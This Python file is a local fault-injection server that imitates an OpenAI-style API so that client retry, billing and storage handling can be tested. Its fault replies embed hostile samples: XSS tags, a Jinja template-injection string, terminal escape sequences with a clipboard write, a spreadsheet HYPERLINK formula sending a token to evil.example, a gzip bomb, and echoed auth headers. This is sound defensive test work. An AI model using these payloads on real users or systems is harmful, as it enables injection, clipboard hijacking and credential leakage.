#!/usr/bin/env python3
# ruff: noqa
# fmt: off
"""faultllm: an OpenAI-compatible server on 127.0.0.1 that misbehaves on purpose.

README
======
Standard library only (Python >= 3.9). It knows nothing about the product under
test: it speaks HTTP, records every request, and can later say which *paid*
answers the product lost and which it paid for twice.

Start it, run a command against it, audit the result:

    python3 faultllm.py serve --mix "ok=80,429=8,500=5,reset_mid=4,hang=3" --seed 7 \
        --log req.jsonl --exec -- mytool generate project.db
    python3 faultllm.py audit --log req.jsonl --db project.db

`--exec` sets OPENAI_BASE_URL, OPENAI_API_BASE and FAULTLLM_URL (".../v1") and, if
unset, OPENAI_API_KEY=sk-faultllm-test; the server stops when the command ends and
exits with its status. Without `--exec` it serves until --max-seconds (default 600),
--max-requests, or SIGINT/SIGTERM, and prints one JSON line {"url", "port", "pid"}.

Choosing the fault of each request (first match wins)
-----------------------------------------------------
* --fault KIND            every request gets KIND
* --script "ok,429,ok"    request 1, 2, 3 ...; then the default
* --mix "ok=90,429=10"    weighted, seeded. The draw depends on (seed, body hash, how often
                          this body was seen), never on arrival order, so the same run meets
                          the same faults at any concurrency. --heal-after N (default 4):
                          after N faults a body is served "ok", so runs end.
* --scenario FILE.json    {"seed": 7, "default": "ok" | {"mix": {...}}, "heal_after": 4,
                           "rules": [{"match": {...}, "fault": "429", "times": 3, ...params}]}
    match keys (all must hold): n (int or [lo, hi], 1-based arrival number), every (int),
    occurrence (int or [lo, hi]: n-th time this body is seen), contains, regex (on the body),
    model, path, after_s, before_s (seconds since start).
    params: retry_after, delay (s), bytes, chunk_ms, down_s, status, text, headers {}, body.

`python3 faultllm.py kinds` lists all fault kinds with what each does and whether a real
provider would have billed it. Extra: --latency MS or LO:HI, --api-key K (any other key gets
401), --forbid-auth (this server plays a stranger's host: every Authorization seen is an
alarm in the summary), --text "SCORE: 7 {token}" (reply text; {token} {n} {hash} {occ}).

What is recorded (JSON lines, one per request, written when it ends)
--------------------------------------------------------------------
n, t0, t1, method, path, model, body_sha256, occ, fault, status, stream, billed (a provider
would charge), usable (complete and valid: a client should keep it), sent_full (every byte was
written and the peer had not closed or died before), token, prompt_tokens, completion_tokens, auth (first 12 hex
of SHA-256 of the Authorization header, never the key), idem (Idempotency-Key), retry_after.
Each billed answer carries a unique token such as FLLM-3fa1-000017 inside its text, so the
answer can be found again in whatever the product stores. JSON-schema / json_object requests
get a minimal valid JSON answer with the token in the first string.

audit: searches every TEXT/BLOB cell of an SQLite file (--db) and/or files (--scan PATH) for
tokens and prints: requests, billed, lost (usable, fully sent, not stored), double_billed
(bodies with more than one usable billed answer), retry_after_violations, after_permanent
(requests that followed a 401/403/404_model/quota answer with the same key and model),
max_concurrency, tokens billed, billed_undelivered (billed, but the client was gone: a killed
client cannot have those). --max-lost N --max-dup N --max-after N --max-ra N set the exit status
(default: report only). With kill -9 the answers on their way at the moment of the kill are
lost whatever the client does: use --latency >= 5 ms so that the server notices the death, and
allow at most kills x concurrency in lost + billed_undelivered; lost alone should stay near 0.

In a Python test:

    from faultllm import FaultServer, audit_db
    with FaultServer(script=["429", "ok"], seed=1) as s:
        ...; s.url; s.records; s.summary()

Only 127.0.0.1 is ever bound; nothing is fetched; run time is bounded.
"""
from __future__ import annotations

import argparse
import asyncio
import contextlib
import email.utils
import functools
import hashlib
import json
import os
import pathlib
import random
import re
import secrets
import signal
import socket
import sqlite3
import struct
import sys
import threading
import time
import zlib

# kind: (billed, usable, what it does)
KINDS = {
    "ok": (1, 1, "200, a normal answer"),
    "slow": (1, 1, "200 after `delay` s (default 1.5)"),
    "drip": (1, 1, "200 sent `bytes` (7) at a time every `chunk_ms` (20): slow-loris, but complete"),
    "wrong_ctype": (1, 1, "200 valid JSON labelled text/html"),
    "bom": (1, 1, "200 valid JSON after a UTF-8 byte order mark"),
    "no_usage": (1, 1, "200 without `usage`"),
    "other_model": (1, 1, "200 whose `model` is not the one asked for"),
    "escapes": (1, 1, "200, text with terminal escapes (OSC 52, OSC 8, CSI, BEL, CR)"),
    "html": (1, 1, "200, text with script/img/javascript: markup"),
    "formula": (1, 1, "200, text that starts with =HYPERLINK( (spreadsheet formula)"),
    "echo_key": (1, 1, "200, text that repeats the caller's Authorization header"),
    "jinja": (1, 1, "200, text with {{ 7*7 }} and {% ... %}: must never be rendered again"),
    "unicode": (1, 1, "200, text with NFC/NFD, RTL override, zero-width, emoji, lone CR"),
    "nul": (1, 1, "200, text holding U+0000"),
    "surrogate": (1, 1, "200, text holding an escaped lone surrogate \\ud800"),
    "dup_keys": (1, 0, "200, JSON object with duplicated keys (two different contents)"),
    "nan": (1, 1, "200, usage numbers NaN / Infinity (not JSON, Python accepts them)"),
    "bigint": (1, 1, "200, usage token count of 400 digits and a negative one"),
    "length": (1, 1, "200, finish_reason=length (cut answer: keep it, mark it)"),
    "content_filter": (1, 0, "200, finish_reason=content_filter, empty text"),
    "refusal": (1, 0, "200, message.refusal set, content null"),
    "null_content": (1, 0, "200, content null"),
    "empty_content": (1, 0, "200, content ''"),
    "empty_choices": (1, 0, "200, choices []"),
    "no_choices": (1, 0, "200, no choices key"),
    "wrong_types": (1, 0, "200, choices is an object, content is a number"),
    "list_content": (1, 1, "200, content is a list of parts"),
    "ok_error": (0, 0, "200 whose body is {\"error\": ...} (some gateways do this)"),
    "html_200": (0, 0, "200 text/html log-in page (captive portal)"),
    "empty_body": (0, 0, "200 with Content-Length 0"),
    "json_cut": (1, 0, "200, JSON cut in half, Content-Length agrees"),
    "invalid_utf8": (1, 0, "200, bytes that are not UTF-8 inside the text"),
    "deep_json": (0, 0, "200, arrays nested 100000 deep"),
    "huge": (1, 0, "200, `bytes` (64 MiB) of text, sent as fast as possible"),
    "endless": (1, 0, "200, chunked body that never ends (until the peer goes or 30 s)"),
    "gzip_bomb": (0, 0, "200, Content-Encoding gzip, 200 MiB of spaces in ~200 KB"),
    "huge_header": (0, 0, "200 with a 1 MiB header"),
    "close_mid": (1, 0, "200, connection closed in the middle of the body (short read)"),
    "reset_mid": (1, 0, "200, TCP reset in the middle of the body"),
    "reset_before": (0, 0, "TCP reset after reading the request, nothing generated"),
    "reset_after": (1, 0, "generated and billed, TCP reset before any byte is sent"),
    "hang": (0, 0, "never answers (until the peer goes or 120 s)"),
    "hang_mid": (1, 0, "sends half of the body, then nothing"),
    "garbage": (0, 0, "bytes that are not HTTP"),
    "redirect": (0, 0, "307 to another host name (must not carry the key there)"),
    "redirect_loop": (0, 0, "307 to itself"),
    "down": (0, 0, "reset, and the port refuses connections for `down_s` (1) s"),
    "400": (0, 0, "400 invalid_request_error"),
    "400_context": (0, 0, "400 context_length_exceeded"),
    "400_policy": (0, 0, "400 content_policy_violation"),
    "401": (0, 0, "401 invalid_api_key (permanent)"),
    "401_echo": (0, 0, "401 whose message repeats the caller's whole Authorization header (permanent)"),
    "402": (0, 0, "402 insufficient credits (permanent)"),
    "403": (0, 0, "403 (permanent)"),
    "404_model": (0, 0, "404 model_not_found (permanent for the model)"),
    "408": (0, 0, "408"),
    "409": (0, 0, "409"),
    "413": (0, 0, "413"),
    "422": (0, 0, "422"),
    "429": (0, 0, "429 with Retry-After: `retry_after` (1) seconds"),
    "429_date": (0, 0, "429 with Retry-After as an HTTP date"),
    "429_ms": (0, 0, "429 with retry-after-ms"),
    "429_none": (0, 0, "429 without Retry-After"),
    "429_long": (0, 0, "429 with Retry-After: 86400"),
    "429_bad": (0, 0, "429 with Retry-After: -5, 'soon'"),
    "429_quota": (0, 0, "429 insufficient_quota (permanent)"),
    "500": (0, 0, "500 JSON error"),
    "500_billed": (1, 0, "500 after the answer was generated and billed"),
    "502_html": (0, 0, "502 text/html"),
    "503": (0, 0, "503 with Retry-After: `retry_after` (1)"),
    "529": (0, 0, "529 overloaded"),
}
PERMANENT = {"401", "401_echo", "402", "403", "404_model", "429_quota"}
STATUS = {"401_echo": 401, "400_context": 400, "400_policy": 400, "404_model": 404, "429_date": 429, "429_ms": 429,
          "429_none": 429, "429_long": 429, "429_bad": 429, "429_quota": 429, "500_billed": 500, "502_html": 502}
TOKEN_RE = re.compile(rb"FLLM-[0-9a-f]{4}-[0-9]{6}")
MAX_BODY = 64 << 20


def parse_mix(text):
    out = {}
    for part in filter(None, (p.strip() for p in text.split(","))):
        k, _, w = part.partition("=")
        out[k.strip()] = float(w or 1)
    for k in out:
        if k not in KINDS:
            raise SystemExit(f"faultllm: unknown fault kind {k!r} (see: faultllm.py kinds)")
    return out


@functools.lru_cache(None)
def gzip_bomb(mib=200):
    co = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = b" " * (1 << 20)
    return b"".join(co.compress(block) for _ in range(mib)) + co.flush()


def _in(spec, value):
    return spec[0] <= value <= spec[1] if isinstance(spec, list) else value == spec


def schema_sample(schema, token, root=None, depth=0):
    """A minimal value that fits a JSON schema; `token` goes into strings."""
    root = root or schema
    if depth > 12 or not isinstance(schema, dict):
        return token
    if "$ref" in schema:
        node = root
        for part in schema["$ref"].lstrip("#/").split("/"):
            node = node.get(part, {}) if isinstance(node, dict) else {}
        return schema_sample(node, token, root, depth + 1)
    for key in ("anyOf", "oneOf", "allOf"):
        if schema.get(key):
            return schema_sample(schema[key][0], token, root, depth + 1)
    if "const" in schema:
        return schema["const"]
    if schema.get("enum"):
        return schema["enum"][0]
    t = schema.get("type")
    if isinstance(t, list):
        t = t[0]
    if t == "object" or "properties" in schema:
        props = schema.get("properties", {})
        return {k: schema_sample(v, token, root, depth + 1) for k, v in props.items()}
    if t == "array":
        n = max(1, int(schema.get("minItems", 1)))
        return [schema_sample(schema.get("items", {"type": "string"}), token, root, depth + 1) for _ in range(n)]
    if t == "integer":
        return int(schema.get("minimum", 1))
    if t == "number":
        return float(schema.get("minimum", 1))
    if t == "boolean":
        return True
    if t == "null":
        return None
    return (token + " sample text ").ljust(int(schema.get("minLength", 0)), "x")


class FaultServer:
    """The server. Use as a context manager (own thread), or `await run()`."""

    def __init__(self, *, port=0, fault=None, script=None, mix=None, scenario=None, seed=0, log=None,
                 api_key=None, latency=(0.0, 0.0), heal_after=4, text=None, max_seconds=600.0,
                 max_requests=None, forbid_auth=False, run_id=None):
        scenario = scenario or {}
        self.port, self.seed = port, scenario.get("seed", seed)
        self.script = list(script or scenario.get("script") or [])
        self.rules = [dict(r, _used=0) for r in scenario.get("rules", [])]
        default = scenario.get("default", fault or "ok")
        self.mix = mix or (default.get("mix") if isinstance(default, dict) else None)
        self.default = "ok" if isinstance(default, dict) else default
        self.heal_after = scenario.get("heal_after", heal_after)
        for k in list(self.script) + [r["fault"] for r in self.rules] + [self.default] + list(self.mix or {}):
            if k not in KINDS:
                raise ValueError(f"unknown fault kind {k!r}")
        self.log_path, self.api_key, self.latency = log, api_key, latency
        self.reply_text, self.max_seconds, self.max_requests = text, max_seconds, max_requests
        self.forbid_auth = forbid_auth
        self.run_id = run_id or secrets.token_hex(2)
        self.records, self.n, self.seen, self.faults_of = [], 0, {}, {}
        self.inflight = self.max_inflight = 0
        self.t_start = time.time()
        self._log = None
        self._server = None
        self._conns = set()
        self._tasks = set()
        self._stop = None
        self._loop = None

    # ---- life cycle -------------------------------------------------------------------
    @property
    def url(self):
        return f"http://127.0.0.1:{self.port}/v1"

    async def _listen(self):
        self._server = await asyncio.start_server(self._client, "127.0.0.1", self.port, limit=MAX_BODY)
        self.port = self._server.sockets[0].getsockname()[1]

    async def run(self, ready=None):
        self._loop, self._stop = asyncio.get_running_loop(), asyncio.Event()
        self.t_start = time.time()
        if self.log_path:
            os.makedirs(os.path.dirname(os.path.abspath(self.log_path)), exist_ok=True)
            self._log = open(self.log_path, "a", encoding="utf-8")
        await self._listen()
        if ready:
            ready()
        with contextlib.suppress(asyncio.TimeoutError):
            await asyncio.wait_for(self._stop.wait(), self.max_seconds)
        self._server.close()
        for t in list(self._tasks):
            t.cancel()
        await asyncio.gather(*self._tasks, return_exceptions=True)
        for w in list(self._conns):
            w.transport.abort()
        if self._log:
            self._log.close()
            self._log = None

    def stop(self):
        if self._loop and self._stop:
            with contextlib.suppress(RuntimeError):
                self._loop.call_soon_threadsafe(self._stop.set)

    def __enter__(self):
        ev = threading.Event()
        self._thread = threading.Thread(target=lambda: asyncio.run(self.run(ev.set)), daemon=True)
        self._thread.start()
        if not ev.wait(10):
            raise RuntimeError("faultllm did not start")
        return self

    def __exit__(self, *exc):
        self.stop()
        self._thread.join(10)

    # ---- choice of the fault ----------------------------------------------------------
    def choose(self, n, occ, body, body_hash, model, path):
        now = time.time() - self.t_start
        for r in self.rules:
            m = r.get("match", {})
            if "times" in r and r["_used"] >= r["times"]:
                continue
            if (("n" in m and not _in(m["n"], n)) or ("every" in m and n % m["every"])
                    or ("occurrence" in m and not _in(m["occurrence"], occ))
                    or ("contains" in m and m["contains"].encode() not in body)
                    or ("regex" in m and not re.search(m["regex"].encode(), body))
                    or ("model" in m and m["model"] != model) or ("path" in m and not path.endswith(m["path"]))
                    or ("after_s" in m and now < m["after_s"]) or ("before_s" in m and now >= m["before_s"])):
                continue
            r["_used"] += 1
            return r["fault"], r
        if n <= len(self.script):
            return self.script[n - 1], {}
        if self.mix:
            if self.faults_of.get(body_hash, 0) >= self.heal_after:
                return "ok", {}
            h = hashlib.sha256(f"{self.seed}|{body_hash}|{occ}".encode()).digest()
            x = int.from_bytes(h[:8], "big") / 2 ** 64 * sum(self.mix.values())
            for k, w in self.mix.items():
                x -= w
                if x < 0:
                    return k, {}
        return self.default, {}

    # ---- HTTP -------------------------------------------------------------------------
    async def _client(self, reader, writer):
        self._conns.add(writer)
        task = asyncio.current_task()
        self._tasks.add(task)
        try:
            while True:
                head = await reader.readuntil(b"\r\n\r\n")
                lines = head.decode("latin-1").split("\r\n")
                method, target, _ = (lines[0].split(" ") + ["", ""])[:3]
                hdr = {}
                for ln in lines[1:]:
                    k, sep, v = ln.partition(":")
                    if sep:
                        hdr[k.strip().lower()] = v.strip()
                if hdr.get("expect", "").lower() == "100-continue":
                    writer.write(b"HTTP/1.1 100 Continue\r\n\r\n")
                body = await self._body(reader, hdr)
                keep = await self._handle(method, target.split("?")[0], hdr, body, reader, writer)
                if not keep or hdr.get("connection", "").lower() == "close":
                    break
        except (asyncio.IncompleteReadError, ConnectionError, asyncio.LimitOverrunError, ValueError,
                asyncio.CancelledError):  # cancelled only when the server stops
            pass
        finally:
            self._tasks.discard(task)
            self._conns.discard(writer)
            with contextlib.suppress(Exception):
                writer.close()

    async def _body(self, reader, hdr):
        if "chunked" in hdr.get("transfer-encoding", "").lower():
            out = b""
            while True:
                size = int((await reader.readline()).split(b";")[0] or b"0", 16)
                chunk = await reader.readexactly(size + 2)
                if size == 0:
                    return out
                out += chunk[:-2]
                if len(out) > MAX_BODY:
                    raise ValueError("body too large")
        n = int(hdr.get("content-length") or 0)
        if n > MAX_BODY:
            raise ValueError("body too large")
        return await reader.readexactly(n) if n else b""

    @staticmethod
    def _head(status, headers):
        reason = {200: "OK", 307: "Temporary Redirect", 401: "Unauthorized", 404: "Not Found",
                  429: "Too Many Requests", 500: "Internal Server Error"}.get(status, "X")
        return (f"HTTP/1.1 {status} {reason}\r\n" + "".join(f"{k}: {v}\r\n" for k, v in headers.items())
                + "\r\n").encode("latin-1", "replace")

    def _reset(self, writer):
        sock = writer.transport.get_extra_info("socket")
        with contextlib.suppress(OSError):
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        writer.transport.abort()

    async def _send(self, writer, data, chunk=None, pause=0.0):
        if chunk:
            for i in range(0, len(data), chunk):
                writer.write(data[i:i + chunk])
                await writer.drain()
                await asyncio.sleep(pause)
        else:
            writer.write(data)
            await writer.drain()

    async def _wait_gone(self, reader, writer, limit):
        """Wait until the peer closes, at most `limit` seconds."""
        with contextlib.suppress(asyncio.TimeoutError, ConnectionError):
            await asyncio.wait_for(reader.read(1), limit)
        self._reset(writer)

    async def _handle(self, method, path, hdr, body, reader, writer):
        if method == "GET":
            if path.endswith("/models"):
                data = json.dumps({"object": "list", "data": [{"id": "fault-model", "object": "model"}]})
            elif path == "/__fault__/summary":
                data = json.dumps(self.summary())
            else:
                data = json.dumps({"status": "ok"})
            await self._send(writer, self._head(200, {"Content-Type": "application/json",
                                                      "Content-Length": len(data)}) + data.encode())
            return True
        self.n += 1
        n = self.n
        body_hash = hashlib.sha256(body).hexdigest()
        occ = self.seen[body_hash] = self.seen.get(body_hash, 0) + 1
        try:
            req = json.loads(body)
            req = req if isinstance(req, dict) else {}
        except ValueError:
            req = {}
        model, stream = str(req.get("model", "")), bool(req.get("stream"))
        fault, par = self.choose(n, occ, body, body_hash, model, path)
        auth = req["__auth__"] = hdr.get("authorization", "")
        if self.api_key and auth != f"Bearer {self.api_key}":
            fault, par = "401", {}
        if fault != "ok":
            self.faults_of[body_hash] = self.faults_of.get(body_hash, 0) + 1
        billed, usable, _ = KINDS[fault]
        token = f"FLLM-{self.run_id}-{n:06d}"
        rec = {"n": n, "t0": round(time.time(), 4), "t1": None, "method": method, "path": path, "host": hdr.get("host"),
               "model": model, "body_sha256": body_hash, "occ": occ, "fault": fault, "status": 0, "stream": stream,
               "billed": bool(billed), "usable": bool(usable), "sent_full": False, "token": token,
               "prompt_tokens": len(body) // 4, "completion_tokens": 0,
               "auth": hashlib.sha256(auth.encode()).hexdigest()[:12] if auth else None,
               "idem": hdr.get("idempotency-key"), "retry_after": None}
        self.inflight += 1
        self.max_inflight = max(self.max_inflight, self.inflight)
        try:
            lo, hi = self.latency
            if hi:
                await asyncio.sleep(random.Random(f"{self.seed}|{body_hash}|{occ}|lat").uniform(lo, hi))
            return await self._answer(fault, par, req, rec, reader, writer)
        except ConnectionError:
            rec["sent_full"] = False
            return False
        finally:
            self.inflight -= 1
            rec["t1"] = round(time.time(), 4)
            self.records.append(rec)
            if self._log:
                self._log.write(json.dumps(rec) + "\n")
                self._log.flush()
            if self.max_requests and len(self.records) >= self.max_requests:
                self._stop.set()

    # ---- bodies -----------------------------------------------------------------------
    def _text(self, fault, req, rec, par):
        tok = rec["token"]
        if "text" in par:
            return par["text"].replace("{token}", tok)
        base = f"Answer {tok} (call {rec['n']}, body {rec['body_sha256'][:8]}, occurrence {rec['occ']}). "
        special = {
            "escapes": "\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\"
                       "\x1b[2J\x1b[31mred\x1b[0m\rOVERWRITTEN\x9b31m \x07",
            "html": "<script>alert(1)</script><img src=x onerror=alert(2)><a href=\"javascript:alert(3)\">x</a>"
                    "</textarea></script><svg onload=alert(4)>",
            "jinja": "{{ 7*7 }} {% for i in range(9) %}x{% endfor %} {{ cycler.__init__.__globals__ }} {# c #}",
            "unicode": "caf\u00e9 cafe\u0301 \u202eevil\u202c a\u200bb \ufeff \U0001f600 a\rb\u2028c\x85d",
            "nul": "before\x00after",
        }
        if fault == "echo_key":
            return base + "You sent: " + str(req.get("__auth__"))
        if fault == "formula":
            return f"=HYPERLINK(\"http://evil.example/?{tok}\",\"click\")"
        if fault in special:
            return base + special[fault]
        rf = req.get("response_format")
        if isinstance(rf, dict) and rf.get("type") == "json_schema":
            return json.dumps(schema_sample(rf.get("json_schema", {}).get("schema", {}), tok))
        if isinstance(rf, dict) and rf.get("type") == "json_object":
            return json.dumps({"answer": tok})
        if self.reply_text:
            return (self.reply_text.replace("{token}", tok).replace("{n}", str(rec["n"]))
                    .replace("{hash}", rec["body_sha256"][:8]).replace("{occ}", str(rec["occ"])))
        return base + "Lorem ipsum dolor sit amet. " * 4

    def _completion(self, fault, req, rec, par):
        text = self._text(fault, req, rec, par)
        msg = {"role": "assistant", "content": text}
        finish = "stop"
        if fault == "refusal":
            msg = {"role": "assistant", "content": None, "refusal": "I can't help with that."}
        elif fault == "null_content":
            msg["content"] = None
        elif fault == "empty_content":
            msg["content"] = ""
        elif fault == "content_filter":
            msg["content"], finish = "", "content_filter"
        elif fault == "length":
            finish = "length"
        elif fault == "list_content":
            msg["content"] = [{"type": "text", "text": text}]
        ct = max(1, len(text) // 4)
        rec["completion_tokens"] = ct
        out = {"id": "chatcmpl-" + rec["token"], "object": "chat.completion", "created": int(time.time()),
               "model": "another-model-2" if fault == "other_model" else rec["model"],
               "choices": [{"index": 0, "message": msg, "finish_reason": finish}],
               "usage": {"prompt_tokens": rec["prompt_tokens"], "completion_tokens": ct,
                         "total_tokens": rec["prompt_tokens"] + ct}}
        if rec["path"].endswith("/embeddings"):
            out = {"object": "list", "model": rec["model"], "data": [{"object": "embedding", "index": 0,
                   "embedding": [0.0, 1.0, 0.5]}], "usage": out["usage"]}
        elif rec["path"].endswith("/completions") and not rec["path"].endswith("/chat/completions"):
            out["object"] = "text_completion"
            out["choices"] = [{"index": 0, "text": text, "finish_reason": finish}]
        if fault == "no_usage":
            out.pop("usage")
        elif fault == "empty_choices":
            out["choices"] = []
        elif fault == "no_choices":
            out.pop("choices")
        elif fault == "wrong_types":
            out["choices"] = {"0": {"message": {"content": 42}}}
        return out, text

    async def _answer(self, fault, par, req, rec, reader, writer):
        if "delay" in par or fault == "slow":
            await asyncio.sleep(par.get("delay", 1.5))
        ctype = {"Content-Type": "application/json"}
        extra = {str(k): str(v) for k, v in par.get("headers", {}).items()}

        async def plain(status, data, headers=ctype, full=True):
            rec["status"] = status
            gone = reader.at_eof()      # the peer closed (or was killed) while we were "thinking"
            await self._send(writer, self._head(status, {**headers, "Content-Length": len(data), **extra}) + data)
            rec["sent_full"] = full and not gone
            return not gone

        # --- no answer at all
        if fault in ("reset_before", "reset_after"):
            self._reset(writer)
            return False
        if fault == "hang":
            await self._wait_gone(reader, writer, par.get("delay", 120))
            return False
        if fault == "garbage":
            await self._send(writer, b"\x16\x03\x01\x00\xa5 not http at all\n\n")
            return False
        if fault == "down":
            self._reset(writer)
            self._server.close()
            for w in list(self._conns):
                if w is not writer:
                    self._reset(w)
            await asyncio.sleep(par.get("down_s", 1))
            if not self._stop.is_set():
                with contextlib.suppress(OSError):  # another request's turn came first
                    await self._listen()
            return False
        # --- error answers
        if fault[:3].isdigit():
            status = par.get("status") or STATUS.get(fault) or int(fault[:3])
            headers = dict(ctype)
            ra = par.get("retry_after", 1)
            if fault in ("429", "503"):
                headers["Retry-After"] = ra
            elif fault == "429_date":
                headers["Retry-After"] = email.utils.formatdate(time.time() + ra + 1, usegmt=True)
            elif fault == "429_ms":
                headers["retry-after-ms"] = int(ra * 1000)
            elif fault == "429_long":
                ra = 86400
                headers["Retry-After"] = ra
            elif fault == "429_bad":
                ra = None
                headers["Retry-After"] = "-5" if rec["n"] % 2 else "soon"
            else:
                ra = None
            rec["retry_after"] = ra
            code = {"400_context": "context_length_exceeded", "400_policy": "content_policy_violation",
                    "401": "invalid_api_key", "401_echo": "invalid_api_key", "404_model": "model_not_found",
                    "429_quota": "insufficient_quota"}.get(fault, "rate_limit_exceeded" if status == 429 else None)
            key = req.get("__auth__", "") if fault == "401_echo" else "sk-****test"
            data = json.dumps({"error": {"message": par.get("text", f"faultllm {fault}: simulated (key {key})"),
                                         "type": "simulated_error", "param": None, "code": code}}).encode()
            if fault == "502_html":
                headers["Content-Type"] = "text/html"
                data = b"<html><h1>502 Bad Gateway</h1></html>"
            return await plain(status, data, headers)
        if fault in ("redirect", "redirect_loop"):
            loc = rec["path"] if fault == "redirect_loop" else f"http://localhost:{self.port}{rec['path']}"
            return await plain(307, b"", {"Location": par.get("text", loc)})
        if fault == "ok_error":
            return await plain(200, b'{"error": {"message": "upstream provider failed", "code": 502}}')
        if fault == "html_200":
            return await plain(200, b"<!doctype html><title>Log in</title>", {"Content-Type": "text/html"})
        if fault == "empty_body":
            return await plain(200, b"")
        if fault == "deep_json":
            return await plain(200, b'{"choices":' + b"[" * 100000 + b"]" * 100000 + b"}")
        if fault == "gzip_bomb":
            return await plain(200, gzip_bomb(), {**ctype, "Content-Encoding": "gzip"})
        if fault == "huge_header":
            return await plain(200, b"{}", {**ctype, "X-Big": "a" * (1 << 20)})
        # --- answers
        obj, text = self._completion(fault, req, rec, par)
        if rec["stream"]:
            return await self._stream(fault, par, obj, text, rec, reader, writer, extra)
        if "body" in par:
            obj = par["body"]
        data = json.dumps(obj, ensure_ascii=(fault == "surrogate")).encode("utf-8", "surrogatepass")
        if fault == "surrogate":
            data = data.replace(b"Lorem", b"\\ud800Lorem", 1)
        elif fault == "dup_keys":
            data = data.replace(b'"content":', b'"content": "FIRST", "content":', 1)
        elif fault == "nan":
            data = re.sub(rb'"usage": \{.*?\}', b'"usage": {"prompt_tokens": NaN, "completion_tokens": Infinity, '
                          b'"total_tokens": -Infinity}', data)
        elif fault == "bigint":
            data = re.sub(rb'"usage": \{.*?\}', b'"usage": {"prompt_tokens": ' + b"9" * 400
                          + b', "completion_tokens": -3}', data)
        elif fault == "bom":
            data = b"\xef\xbb\xbf" + data
        elif fault == "invalid_utf8":
            data = data.replace(b"Answer", b"\xff\xfe\xc3\x28", 1)
        elif fault == "json_cut":
            data = data[:len(data) // 2]
        if fault in ("close_mid", "reset_mid", "hang_mid"):
            rec["status"] = 200
            await self._send(writer, self._head(200, {**ctype, "Content-Length": len(data), **extra})
                             + data[:len(data) // 2])
            await asyncio.sleep(0.02)
            if fault == "hang_mid":
                await self._wait_gone(reader, writer, 120)
            elif fault == "reset_mid":
                self._reset(writer)
            return False
        if fault == "huge":
            total = int(par.get("bytes", 64 << 20))
            rec["status"] = 200
            await self._send(writer, self._head(200, {**ctype, "Content-Length": total + 2}) + b'"')
            block = b"A" * 65536
            while total > 0:
                writer.write(block[:total])
                await writer.drain()
                total -= len(block)
            await self._send(writer, b'"')
            rec["sent_full"] = True
            return True
        if fault == "endless":
            rec["status"] = 200
            await self._send(writer, self._head(200, {**ctype, "Transfer-Encoding": "chunked"}))
            end = time.time() + 30
            while time.time() < end:
                await self._send(writer, b"1000\r\n" + b" " * 4096 + b"\r\n")
                await asyncio.sleep(0.001)
            self._reset(writer)
            return False
        headers = {"Content-Type": "text/html"} if fault == "wrong_ctype" else ctype
        if fault == "drip":
            rec["status"] = 200
            await self._send(writer, self._head(200, {**headers, "Content-Length": len(data)}) + data,
                             par.get("bytes", 7), par.get("chunk_ms", 20) / 1000)
            rec["sent_full"] = True
            return True
        return await plain(200, data, headers)

    async def _stream(self, fault, par, obj, text, rec, reader, writer, extra):
        rec["status"] = 200
        await self._send(writer, self._head(200, {"Content-Type": "text/event-stream",
                                                  "Transfer-Encoding": "chunked", **extra}))

        async def ev(payload):
            data = payload if isinstance(payload, bytes) else b"data: " + json.dumps(payload).encode() + b"\n\n"
            await self._send(writer, b"%x\r\n" % len(data) + data + b"\r\n")

        base = {k: obj.get(k) for k in ("id", "created", "model")}
        base["object"] = "chat.completion.chunk"
        parts = [text[i:i + 16] for i in range(0, len(text), 16)] or [""]
        choices = obj.get("choices")
        finish = choices[0].get("finish_reason", "stop") if isinstance(choices, list) and choices else "stop"
        for i, p in enumerate(parts):
            if i == len(parts) // 2:
                if fault == "reset_mid":
                    self._reset(writer)
                    return False
                if fault == "close_mid":
                    return False
                if fault == "hang_mid":
                    await self._wait_gone(reader, writer, 120)
                    return False
                if fault in ("json_cut", "garbage"):
                    await ev(b'data: {"choices": [{"del\n\n')
            await ev({**base, "choices": [{"index": 0, "delta": {"content": p}, "finish_reason": None}]})
            if fault == "drip":
                await asyncio.sleep(par.get("chunk_ms", 20) / 1000)
        await ev({**base, "choices": [{"index": 0, "delta": {}, "finish_reason": finish}]})
        if obj.get("usage"):
            await ev({**base, "choices": [], "usage": obj["usage"]})
        await ev(b"data: [DONE]\n\n")
        await self._send(writer, b"0\r\n\r\n")
        rec["sent_full"] = not reader.at_eof()
        return True

    # ---- summary ----------------------------------------------------------------------
    def summary(self):
        return summarise(self.records, self.max_inflight, self.forbid_auth)


def summarise(records, max_inflight=None, forbid_auth=False):
    by_fault, by_body = {}, {}
    for r in records:
        by_fault[r["fault"]] = by_fault.get(r["fault"], 0) + 1
        by_body.setdefault(r["body_sha256"], []).append(r)
    dup = {h[:16]: sum(1 for r in rs if r["usable"] and r["sent_full"]) for h, rs in by_body.items()}
    dup = {h: c for h, c in dup.items() if c > 1}
    ra_bad = ra_other = 0
    for r in records:
        if r["retry_after"]:
            end = r["t1"] + r["retry_after"] - 0.05
            for s in records:
                if r["t1"] < s["t0"] < end:
                    if s["body_sha256"] == r["body_sha256"]:
                        ra_bad += 1
                    elif s["model"] == r["model"] and s["auth"] == r["auth"]:
                        ra_other += 1
    after = 0
    dead = {}
    for r in sorted(records, key=lambda r: r["t0"]):
        k = (r["auth"], r["model"])
        if k in dead and r["t0"] > dead[k]:
            after += 1
        elif r["fault"] in PERMANENT and k not in dead:
            dead[k] = r["t1"]
    if max_inflight is None:
        ev = sorted([(r["t0"], 1) for r in records] + [(r["t1"] or r["t0"], -1) for r in records])
        cur = max_inflight = 0
        for _, d in ev:
            cur += d
            max_inflight = max(max_inflight, cur)
    return {"requests": len(records), "distinct_bodies": len(by_body), "by_fault": dict(sorted(by_fault.items())),
            "billed": sum(r["billed"] for r in records),
            "billed_usable_sent": sum(r["billed"] and r["usable"] and r["sent_full"] for r in records),
            "billed_undelivered": sum(r["billed"] and r["usable"] and not r["sent_full"] for r in records),
            "double_billed_bodies": len(dup), "double_billed_extra": sum(c - 1 for c in dup.values()),
            "retry_after_violations": ra_bad, "other_requests_in_retry_after": ra_other,
            "after_permanent": after, "max_concurrency": max_inflight,
            "completion_tokens_billed": sum(r["completion_tokens"] for r in records if r["billed"]),
            "keys_seen": sorted({r["auth"] for r in records if r["auth"]}),
            "idempotency_keys": len({r["idem"] for r in records if r["idem"]}),
            **({"ALARM_auth_seen": sum(bool(r["auth"]) for r in records)} if forbid_auth else {})}


def load_log(path):
